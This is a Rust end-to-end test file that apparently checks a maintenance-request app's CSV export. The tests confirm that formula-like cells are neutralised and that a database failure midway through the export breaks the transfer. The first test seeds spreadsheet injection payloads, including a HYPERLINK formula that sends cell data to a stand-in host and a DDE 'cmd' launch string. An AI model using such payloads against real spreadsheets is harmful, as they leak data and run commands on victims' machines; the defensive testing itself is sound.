//! The CSV export under attack and under failure (issue 11, items 3 and 4): cells a
//! spreadsheet would evaluate come back neutralised, and a database error in the middle of
//! the export breaks the transfer instead of ending it like a complete file.

use basma_e2e::db_test;
use basma_e2e::harness::fixtures::Place;
use basma_e2e::harness::proxy::OutageProxy;
use basma_e2e::harness::{Backend, TestApp, mysql_addr};
use reqwest::{Method, Response};
use sea_orm::{ConnectionTrait, Database, DatabaseConnection};
use serde_json::json;

async fn place(app: &TestApp, admin: &str) -> Place {
    let site = app.site(admin, 1).await;
    Place {
        building: site.buildings[0].clone(),
        category: app.category(admin, "PLUMBING").await,
    }
}

async fn export(app: &TestApp, token: &str, query: &str) -> Response {
    app.request(
        Method::GET,
        &format!("/api/v1/reports/requests.csv?{query}"),
    )
    .bearer_auth(token)
    .send()
    .await
    .unwrap()
}

db_test!(
    formula_like_titles_come_back_from_the_csv_export_prefixed_with_a_quote,
    |app: TestApp| async move {
        let admin = app.admin_token().await;
        let place = place(&app, &admin).await;
        let risky = [
            "=HYPERLINK(\"http://evil.test/?d=\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
        ];
        for title in risky {
            let extra = json!({"location": format!("{title} (location)")});
            app.new_request(&admin, &place, title, extra).await;
        }
        app.new_request(
            &admin,
            &place,
            "Leak in flat 3, a=b",
            json!({"location": "Flat 3"}),
        )
        .await;

        let response = export(&app, &admin, "").await;
        assert_eq!(response.status().as_u16(), 200);
        let text = response.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let cell = |row: &csv::StringRecord, n: usize| row.get(n).unwrap().to_owned();
        // Columns 2 and 8 are title and location.
        let mut titles: Vec<(String, String)> =
            rows.iter().map(|r| (cell(r, 2), cell(r, 8))).collect();
        titles.sort();
        let mut want: Vec<(String, String)> = risky
            .iter()
            .map(|t| (format!("'{t}"), format!("'{t} (location)")))
            .chain([("Leak in flat 3, a=b".to_owned(), "Flat 3".to_owned())])
            .collect();
        want.sort();
        assert_eq!(titles, want, "{text}");
    }
);

/// Makes the export long: one request with long Arabic title and location, doubled in
/// place by SQL until there are `2^doublings` rows (far more than the socket buffers hold,
/// so the server is still fetching pages when the test interferes).
async fn seed_many(app: &TestApp, admin: &str, db: &DatabaseConnection, doublings: u32) -> usize {
    let place = place(app, admin).await;
    let long = "ت".repeat(190);
    let extra = json!({"location": "م".repeat(200)});
    app.new_request(admin, &place, &long, extra).await;
    let (id, reference) = match app.backend {
        Backend::Sqlite => ("randomblob(16)", "'T' || hex(randomblob(9))"),
        Backend::Mysql => (
            "UNHEX(MD5(CONCAT(RAND(), UUID())))",
            "CONCAT('T', LEFT(MD5(CONCAT(RAND(), UUID())), 18))",
        ),
    };
    let rest = "title, description, category_id, priority, priority_rank, status, building_id, \
                property_id, location, requester_id, assignee_id, due_at, submitted_at, \
                assigned_at, started_at, completed_at, closed_at, reason, rating, feedback, \
                version, created_at, updated_at";
    let copy = format!(
        "INSERT INTO maintenance_requests (id, reference, {rest}) \
         SELECT {id}, {reference}, {rest} FROM maintenance_requests"
    );
    for _ in 0..doublings {
        db.execute_unprepared(&copy).await.unwrap();
    }
    1 << doublings
}

/// Reads the first bytes of the export, lets `interfere` break the database, then reads
/// the rest: the body must end in an error, never like a complete file.
async fn assert_export_breaks(
    app: &TestApp,
    admin: &str,
    rows: usize,
    interfere: impl AsyncFnOnce(),
) {
    let mut response = export(app, admin, "").await;
    assert_eq!(response.status().as_u16(), 200);
    let first = response.chunk().await.unwrap().unwrap();
    assert!(!first.is_empty());
    interfere().await;
    let mut lines = first.iter().filter(|b| **b == b'\n').count();
    let outcome = loop {
        match response.chunk().await {
            Ok(Some(chunk)) => lines += chunk.iter().filter(|b| **b == b'\n').count(),
            Ok(None) => break Ok(()),
            Err(e) => break Err(e),
        }
    };
    assert!(lines <= rows, "{lines} lines");
    let error = outcome.expect_err(&format!(
        "the export ended normally after {lines} of {rows} rows and a database error"
    ));
    assert!(error.is_body() || error.is_decode(), "{error:?}");
}

db_test!(
    a_table_gone_in_the_middle_of_the_csv_export_breaks_the_body_instead_of_ending_it,
    |app: TestApp| async move {
        let admin = app.admin_token().await;
        let db = Database::connect(app.database.url.as_str()).await.unwrap();
        let rows = seed_many(&app, &admin, &db, 13).await;
        assert_export_breaks(&app, &admin, rows, async || {
            db.execute_unprepared("ALTER TABLE maintenance_requests RENAME TO mr_gone")
                .await
                .unwrap();
        })
        .await;
    }
);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(not(mysql_suite), ignore = "needs BASMA_TEST_MYSQL_URL (MariaDB)")]
async fn a_database_cut_off_in_the_middle_of_the_csv_export_breaks_the_body_instead_of_ending_it() {
    let target = mysql_addr();
    let proxy = OutageProxy::start(target).await;
    let proxy_addr = proxy.addr.clone();
    let mut direct = String::new();
    let app = TestApp::spawn_with(Backend::Mysql, |vars| {
        direct = vars["DATABASE_URL"].clone();
        let name = direct.rsplit('/').next().unwrap_or_default().to_owned();
        let base = url::Url::parse(&direct).unwrap();
        let userinfo = match base.username() {
            "" => String::new(),
            user => format!("{user}@"),
        };
        vars.insert(
            "DATABASE_URL".into(),
            format!("mysql://{userinfo}{proxy_addr}/{name}"),
        );
    })
    .await;
    let admin = app.admin_token().await;
    let db = Database::connect(direct.as_str()).await.unwrap();
    let rows = seed_many(&app, &admin, &db, 13).await;
    assert_export_breaks(&app, &admin, rows, async || proxy.cut()).await;
}
